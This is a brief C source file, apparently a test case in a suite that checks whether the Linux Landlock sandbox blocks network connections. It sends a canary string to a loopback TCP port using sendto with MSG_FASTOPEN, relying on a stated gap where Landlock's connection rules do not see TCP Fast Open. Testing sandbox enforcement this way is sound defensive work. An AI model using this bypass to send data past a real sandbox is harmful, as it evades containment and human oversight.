/* TCP without connect(): Landlock's rules for connections do not see TCP Fast Open. */
#include "../addresses.h"
#include "../attack.h"

static void attack(void) {
    const struct sockaddr_in address = loopback(target_number("tcp_port"));
    const char* canary = target("canary");
    sendto(socket(AF_INET, SOCK_STREAM, 0), canary, strlen(canary), MSG_FASTOPEN,
           (const struct sockaddr*)&address, sizeof address);
}
